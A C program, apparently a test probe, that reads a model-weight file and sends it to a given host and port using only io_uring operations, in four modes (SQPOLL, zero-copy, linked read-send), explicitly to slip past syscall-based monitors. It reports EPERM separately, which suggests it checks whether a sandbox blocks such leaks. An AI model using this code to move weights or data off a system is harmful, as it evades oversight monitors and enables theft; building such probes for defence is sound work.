// SPDX-License-Identifier: GPL-2.0
/* uring_leak FILE HOST PORT [MODE]: read a weight file and send it to
 * HOST:PORT with io_uring only (no read/send syscalls), the way a leaker
 * avoiding syscall-based monitors would. MODE:
 *   plain    IORING_OP_READ of the whole file, then IORING_OP_SEND (default)
 *   sqpoll   the same on a ring with IORING_SETUP_SQPOLL: the kernel's
 *            polling thread issues both, the process makes no syscall per op
 *   send-zc  IORING_OP_SEND_ZC: the socket sends from the process's pages
 *   linked   per chunk, a READ linked (IOSQE_IO_LINK) to the SEND of the
 *            same buffer, submitted together: the data never passes
 *            through the process between them
 * Exit 0 when all was sent, 3 on EPERM, 4 on other errors. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <liburing.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#define CHUNK (64 * 1024)

enum mode { PLAIN, SQPOLL, SEND_ZC, LINKED };

/* Reap one completion; a zero-copy send's notification (F_NOTIF) is
 * skipped, its result CQE (F_MORE set) is the one that counts. */
static int reap(struct io_uring *ring)
{
	struct io_uring_cqe *cqe;
	int res;

	for (;;) {
		if (io_uring_wait_cqe(ring, &cqe) < 0)
			return -EIO;
		res = cqe->res;
		if (cqe->flags & IORING_CQE_F_NOTIF) {
			io_uring_cqe_seen(ring, cqe);
			continue;
		}
		io_uring_cqe_seen(ring, cqe);
		return res;
	}
}

static int uring_op(struct io_uring *ring, int op, int fd, void *buf, size_t len, off_t off)
{
	struct io_uring_sqe *sqe = io_uring_get_sqe(ring);
	int res;

	if (op == IORING_OP_READ)
		io_uring_prep_read(sqe, fd, buf, len, off);
	else if (op == IORING_OP_SEND_ZC)
		io_uring_prep_send_zc(sqe, fd, buf, len, 0, 0);
	else
		io_uring_prep_send(sqe, fd, buf, len, MSG_WAITALL);
	if (io_uring_submit(ring) < 0)
		return -EIO;
	res = reap(ring);
	if (op == IORING_OP_SEND_ZC && res >= 0) {
		/* the notification: the pages may be reused after it */
		struct io_uring_cqe *cqe;

		if (!io_uring_wait_cqe(ring, &cqe))
			io_uring_cqe_seen(ring, cqe);
	}
	return res;
}

static int dial(const char *host, const char *port)
{
	struct sockaddr_storage ss = {};
	socklen_t slen;
	int s;

	if (strchr(host, ':')) {
		struct sockaddr_in6 *a = (struct sockaddr_in6 *)&ss;

		a->sin6_family = AF_INET6;
		a->sin6_port = htons(atoi(port));
		inet_pton(AF_INET6, host, &a->sin6_addr);
		slen = sizeof(*a);
	} else {
		struct sockaddr_in *a = (struct sockaddr_in *)&ss;

		a->sin_family = AF_INET;
		a->sin_port = htons(atoi(port));
		inet_pton(AF_INET, host, &a->sin_addr);
		slen = sizeof(*a);
	}
	s = socket(ss.ss_family, SOCK_STREAM, 0);
	if (s < 0 || connect(s, (struct sockaddr *)&ss, slen))
		return -errno;
	return s;
}

/* READ -> SEND pairs over one buffer, linked: bytes sent; *err: errno */
static long long linked_copy(struct io_uring *ring, int fd, int s, char *buf, off_t size,
			     int *err)
{
	off_t done = 0;

	while (done < size) {
		size_t len = size - done < CHUNK ? size - done : CHUNK;
		struct io_uring_sqe *rd = io_uring_get_sqe(ring), *wr;
		int r, w;

		io_uring_prep_read(rd, fd, buf, len, done);
		rd->flags |= IOSQE_IO_LINK;
		wr = io_uring_get_sqe(ring);
		io_uring_prep_send(wr, s, buf, len, MSG_WAITALL);
		if (io_uring_submit(ring) < 0) {
			*err = EIO;
			return done;
		}
		r = reap(ring);
		w = reap(ring);
		if (r <= 0 || w <= 0) {
			/* a failed READ cancels its SEND (-ECANCELED) */
			*err = r < 0 ? -r : w < 0 ? -w : EIO;
			return done;
		}
		done += w;
	}
	return done;
}

static int report(long long sent, int err)
{
	printf("{\"sent\": %lld, \"error\": %s%s%s}\n", sent, err ? "\"" : "",
	       err ? (err == EPERM ? "EPERM" : strerror(err)) : "null", err ? "\"" : "");
	return err ? (err == EPERM ? 3 : 4) : 0;
}

int main(int argc, char **argv)
{
	struct io_uring_params p = {};
	struct io_uring ring;
	enum mode mode = PLAIN;
	char *data;
	off_t size, done = 0;
	struct stat st;
	int fd, s, n;

	if (argc < 4 || argc > 5) {
		fprintf(stderr, "usage: uring_leak FILE HOST PORT [plain|sqpoll|send-zc|linked]\n");
		return 2;
	}
	if (argc == 5) {
		if (!strcmp(argv[4], "sqpoll"))
			mode = SQPOLL;
		else if (!strcmp(argv[4], "send-zc"))
			mode = SEND_ZC;
		else if (!strcmp(argv[4], "linked"))
			mode = LINKED;
		else if (strcmp(argv[4], "plain")) {
			fprintf(stderr, "uring_leak: unknown mode %s\n", argv[4]);
			return 2;
		}
	}
	if (mode == SQPOLL) {
		p.flags = IORING_SETUP_SQPOLL;
		p.sq_thread_idle = 2000;
	}
	n = io_uring_queue_init_params(8, &ring, &p);
	if (n) {
		fprintf(stderr, "io_uring_queue_init: %s\n", strerror(-n));
		return 4;
	}
	fd = open(argv[1], O_RDONLY);
	if (fd < 0 || fstat(fd, &st)) {
		perror(argv[1]);
		return 4;
	}
	size = st.st_size;
	data = malloc(size > CHUNK ? size : CHUNK);
	if (mode == LINKED) {
		long long sent;
		int err = 0;

		s = dial(argv[2], argv[3]);
		if (s < 0)
			return report(0, -s);
		sent = linked_copy(&ring, fd, s, data, size, &err);
		close(s);
		return report(sent, err);
	}
	while (done < size) {
		n = uring_op(&ring, IORING_OP_READ, fd, data + done, size - done, done);
		if (n <= 0) {
			fprintf(stderr, "read: %s\n", strerror(-n));
			return 4;
		}
		done += n;
	}
	s = dial(argv[2], argv[3]);
	if (s < 0)
		return report(0, -s);
	for (done = 0; done < size; done += n) {
		n = uring_op(&ring, mode == SEND_ZC ? IORING_OP_SEND_ZC : IORING_OP_SEND, s,
			     data + done, size - done < CHUNK ? size - done : CHUNK, 0);
		if (n <= 0)
			return report(done, n < 0 ? -n : EIO);
	}
	close(s);
	return report(done, 0);
}
